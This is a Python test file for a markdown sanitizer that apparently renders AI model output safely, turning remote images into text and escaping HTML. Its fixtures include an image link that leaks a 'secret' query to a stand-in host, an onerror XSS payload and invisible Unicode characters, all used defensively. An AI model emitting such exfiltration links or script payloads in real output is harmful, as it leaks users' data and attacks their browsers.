"""A model's words cannot fetch a picture from elsewhere or become live HTML."""

from __future__ import annotations

import pytest

from webui.markdown import safe_markdown


@pytest.mark.parametrize(
    ("text", "shown"),
    [
        ("plain **bold** and `code`", "plain **bold** and `code`"),
        ("![x](http://evil.test/?d=secret)", "\\[image: evil.test\\]"),
        ("![x](<https://evil.test/a b> 'title')", "\\[image: evil.test\\]"),
        ("![](//evil.test/a.png)", "\\[image: evil.test\\]"),
        ("![logo][ref]\n\n[ref]: https://evil.test/a.png", "\\[image: evil.test\\]\n\n[ref]: https://evil.test/a.png"),
        ("![ref]\n\n[ref]: https://evil.test/a.png", "\\[image: evil.test\\]\n\n[ref]: https://evil.test/a.png"),
        ("![ref][]", "\\[image: ref\\]"),
        ("<img src=x onerror=alert(1)>", "&lt;img src=x onerror=alert(1)>"),
        ("</details><!-- x --><?php", "&lt;/details>&lt;!-- x -->&lt;?php"),
        ("3 < 4 and 5 > 2", "3 < 4 and 5 > 2"),
        ("a\u202eb\u200bc\U000e0041", "abc"),
    ],
)
def test_pictures_become_words_and_tags_are_spelled_out(text: str, shown: str) -> None:
    assert safe_markdown(text) == shown


def test_code_is_left_as_it_is() -> None:
    text = "Use `<b>` or:\n\n```html\n<img src=x>\n![a](http://b.test)\n```\n\nand ``a ` <i>``."
    assert safe_markdown(text) == text


def test_an_open_fence_does_not_let_the_rest_of_the_text_out() -> None:
    assert safe_markdown("<b>\n```\n<i>") == "&lt;b>\n```\n<i>"


def test_a_backtick_without_a_partner_is_no_code() -> None:
    assert safe_markdown("it`s <b>") == "it`s &lt;b>"


def test_nested_picture_brackets_leave_no_picture_behind() -> None:
    assert "![" not in safe_markdown("![a[b]c](http://evil.test/x) ![[x](http://evil.test/y)")
